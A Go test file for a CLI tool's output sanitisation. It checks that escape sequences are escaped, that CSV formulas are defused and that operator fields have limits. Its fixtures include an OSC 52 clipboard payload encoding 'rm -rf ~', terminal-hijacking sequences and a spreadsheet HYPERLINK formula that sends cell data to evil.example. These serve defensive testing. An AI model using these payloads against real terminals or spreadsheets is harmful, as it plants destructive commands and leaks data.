package cli_test

import (
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	bolt "go.etcd.io/bbolt"

	"ponte/ui/cli"
)

// What a terminal would obey: a window title, a cleared screen, a clipboard write (OSC 52),
// a C1 CSI, a line feed that would forge a row, and a right-to-left override.
const (
	evilSGAUser = "\x1b]0;pwned\a\x1b[2J"
	evilNote    = "\x1b]52;c;cm0gLXJmIH4=\a\u009b31m\nforged row\u202e"
)

// obeyed names the first character of out a terminal would act on, "" for none.
func obeyed(out string) string {
	for _, r := range out {
		if (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
			return string(r)
		}
	}
	return ""
}

// poison rewrites, in every bucket of the database, the JSON records holding one of the keys
// in set, as a database written before the store's text rules (or an SGA that sends them)
// would hold them.
func poison(t *testing.T, db string, set map[string]string) {
	t.Helper()
	b, err := bolt.Open(db, 0o600, &bolt.Options{Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	var walk func(bk *bolt.Bucket) error
	rewrite := func(v any) bool {
		changed := false
		var visit func(v any)
		visit = func(v any) {
			switch x := v.(type) {
			case map[string]any:
				if _, cause := x["motive"]; cause { // a proposal's cause: the SGA user who changed it
					x["changed_by"] = ""
				}
				for k, val := range x {
					if s, ok := set[k]; ok {
						if _, isString := val.(string); isString {
							x[k], changed = s, true
							continue
						}
					}
					visit(val)
				}
			case []any:
				for _, e := range x {
					visit(e)
				}
			}
		}
		visit(v)
		return changed
	}
	walk = func(bk *bolt.Bucket) error {
		type kv struct{ k, v []byte }
		var puts []kv
		err := bk.ForEach(func(k, v []byte) error {
			if v == nil {
				return walk(bk.Bucket(k))
			}
			var rec map[string]any
			if json.Unmarshal(v, &rec) != nil || !rewrite(rec) {
				return nil
			}
			data, err := json.Marshal(rec)
			puts = append(puts, kv{append([]byte(nil), k...), data})
			return err
		})
		for _, p := range puts {
			if err == nil {
				err = bk.Put(p.k, p.v)
			}
		}
		return err
	}
	if err := b.Update(func(tx *bolt.Tx) error {
		return tx.ForEach(func(_ []byte, bk *bolt.Bucket) error { return walk(bk) })
	}); err != nil {
		t.Fatal(err)
	}
}

// An SGA user's name, a note, a technician and a cancel reason holding escape sequences and
// bidirectional controls are shown escaped by every text output: pending list, order show,
// the step's own line, the run's detail, an error quoting them. --json keeps them as they are
// (JSON escapes what a terminal would obey).
func TestTextOutputsEscapeWhatATerminalWouldObey(t *testing.T) {
	db, sm, url := syncedDB(t, 40)
	ponte := func(args ...string) (int, string, string) {
		return ponteIn("", append([]string{"--db", db, "--sga-url", url}, args...)...)
	}
	v := ourVehicle(t, sm)
	var imported []struct{ Contract, Order string }
	code, out, errOut := ponte("import", v.Plate, "--client", v.MemberCPF, "--json")
	if code != cli.ExitOK || json.Unmarshal([]byte(out), &imported) != nil || len(imported) != 1 {
		t.Fatalf("import: %d %q %q", code, out, errOut)
	}
	install(t, ponte, imported[0].Order)
	if err := sm.SetSituation(v.Code, 3); err != nil { // CANCELADO: a Retirada proposed
		t.Fatal(err)
	}
	if code, out, errOut := ponte("sync", "--rate", "0"); code != cli.ExitOK {
		t.Fatalf("sync: %d %q %q", code, out, errOut)
	}
	order := imported[0].Order
	if code, _, errOut := ponte("pending", "list"); code != cli.ExitOK {
		t.Fatalf("pending list: %d %q", code, errOut)
	}
	poison(t, db, map[string]string{"changed_by": evilSGAUser, "note": evilNote, "technician": evilNote, "cancel_reason": evilNote, "by": evilSGAUser})

	for _, args := range [][]string{
		{"pending", "list", "--all"},
		{"order", "show", order},
	} {
		code, out, errOut := ponte(args...)
		if code != cli.ExitOK {
			t.Fatalf("ponte %s: %d %q", strings.Join(args, " "), code, errOut)
		}
		if c := obeyed(out + errOut); c != "" || !strings.Contains(out, `\x1b]`) {
			t.Errorf("ponte %s printed %q raw:\n%s", strings.Join(args, " "), c, out)
		}
	}
	code, out, _ = ponte("order", "show", order, "--json")
	if code != cli.ExitOK || !strings.Contains(out, `\u001b]52;c;`) || obeyed(out) != "" {
		t.Errorf("order show --json: %d\n%s", code, out)
	}
}

// A CSV cell that a spreadsheet would take as a formula starts with a single quote (OWASP's
// rule: =, +, -, @, tab, carriage return); one holding what a terminal would obey is escaped.
// The JSON lines keep the value.
func TestCSVExportDefusesFormulas(t *testing.T) {
	db, sm, url := syncedDB(t, 40)
	ponte := func(args ...string) (int, string, string) {
		return ponteIn("", append([]string{"--db", db, "--sga-url", url}, args...)...)
	}
	v := ourVehicle(t, sm)
	var imported []struct{ Contract, Order string }
	code, out, errOut := ponte("import", v.Plate, "--client", v.MemberCPF, "--json")
	if code != cli.ExitOK || json.Unmarshal([]byte(out), &imported) != nil || len(imported) != 1 {
		t.Fatalf("import: %d %q %q", code, out, errOut)
	}
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"clique")`
	if code, _, errOut := ponte("order", "cancel", imported[0].Order, "--reason", formula, "--contract", "keep"); code != cli.ExitOK {
		t.Fatalf("cancel: %d %q", code, errOut)
	}
	code, out, errOut = ponte("export", "orders", "--format", "csv")
	if code != cli.ExitOK {
		t.Fatalf("export orders --format csv: %d %q", code, errOut)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export orders --format csv: %v\n%s", err, out)
	}
	for i, name := range rows[0] {
		if name == "cancel_reason" && rows[1][i] != "'"+formula {
			t.Errorf("cancel_reason cell %q, want %q", rows[1][i], "'"+formula)
		}
	}
	if !slices.Contains(rows[0], "cancel_reason") {
		t.Fatalf("no cancel_reason column: %q", rows[0])
	}
	code, out, _ = ponte("export", "orders")
	if code != cli.ExitOK || !strings.Contains(out, `"cancel_reason":"=HYPERLINK(`) {
		t.Errorf("export orders: %d\n%s", code, out)
	}

	poison(t, db, map[string]string{"cancel_reason": evilNote})
	for _, args := range [][]string{{"export", "orders", "--format", "csv"}, {"export", "orders"}} {
		code, out, _ := ponte(args...)
		if c := obeyed(strings.ReplaceAll(out, "\n", "")); code != cli.ExitOK || c != "" {
			t.Errorf("ponte %s printed %q raw:\n%s", strings.Join(args, " "), c, out)
		}
	}
}

// Notes, reasons, technicians and administrators' names have a limit and refuse what a
// terminal would obey, in the store, so every surface is refused alike: here the command
// line, exit 2 with the field and the limit, and nothing written.
func TestOperatorTextHasLimits(t *testing.T) {
	db, sm, url := syncedDB(t, 40)
	ponte := func(args ...string) (int, string, string) {
		return ponteIn("", append([]string{"--db", db, "--sga-url", url}, args...)...)
	}
	v := ourVehicle(t, sm)
	var imported []struct{ Contract, Order string }
	code, out, errOut := ponte("import", v.Plate, "--client", v.MemberCPF, "--json")
	if code != cli.ExitOK || json.Unmarshal([]byte(out), &imported) != nil || len(imported) != 1 {
		t.Fatalf("import: %d %q %q", code, out, errOut)
	}
	order := imported[0].Order
	visit := time.Now().AddDate(0, 0, 7).Format("02/01/2006") + " 14:00"
	long := strings.Repeat("caixa postal ", 100<<10/13) // 100 KB
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"order", "contact", order, "--outcome", "Sem resposta", "--note", long}, "note: longer than 500 characters"},
		{[]string{"order", "contact", order, "--outcome", "Sem resposta", "--note", "ok\x1b]52;c;eA==\a"}, "note: character 3 is a control character (U+001B)"},
		{[]string{"order", "schedule", order, "--at", visit, "--technician", "Carlos\x1b[2J"}, "technician: character 7 is a control character (U+001B)"},
		{[]string{"order", "schedule", order, "--at", visit, "--technician", strings.Repeat("Carlos ", 10)}, "technician: longer than 60 characters"},
		{[]string{"order", "cancel", order, "--reason", "desistiu\u202e", "--contract", "keep"}, "reason: character 9 is a bidirectional text control (U+202E)"},
		{[]string{"order", "cancel", order, "--reason", strings.Repeat("x", 201), "--contract", "keep"}, "reason: longer than 200 characters"},
		{[]string{"admin", "add", "--login", "eva", "--name", "Eva\x1b]0;x\a"}, "name: character 4 is a control character (U+001B)"},
		{[]string{"admin", "add", "--login", "eva", "--name", strings.Repeat("é", 121)}, "name: longer than 120 characters"},
	} {
		t.Run(c.want, func(t *testing.T) {
			code, out, errOut := ponte(c.args...)
			if code != cli.ExitUsage || errOut != "ponte: "+c.want+"\n" || out != "" {
				t.Errorf("ponte %.80q: %d %q %q, want 2 and %q", strings.Join(c.args, " "), code, out, errOut, c.want)
			}
		})
	}
	code, out, _ = ponte("order", "show", order, "--json")
	var shown struct {
		Status   string
		Attempts []any
	}
	if code != cli.ExitOK || json.Unmarshal([]byte(out), &shown) != nil || shown.Status != "Aberta" || len(shown.Attempts) != 0 {
		t.Fatalf("a refused step wrote: %d %s", code, out)
	}
	if code, out, _ := ponte("admin", "list"); code != cli.ExitOK || strings.Contains(out, "eva") {
		t.Fatalf("a refused administrator was added: %d %s", code, out)
	}
	// At the limit, it is taken.
	if code, _, errOut := ponte("order", "contact", order, "--outcome", "Sem resposta", "--note", strings.Repeat("ç", 500)); code != cli.ExitOK {
		t.Fatalf("a note at the limit: %d %q", code, errOut)
	}
}
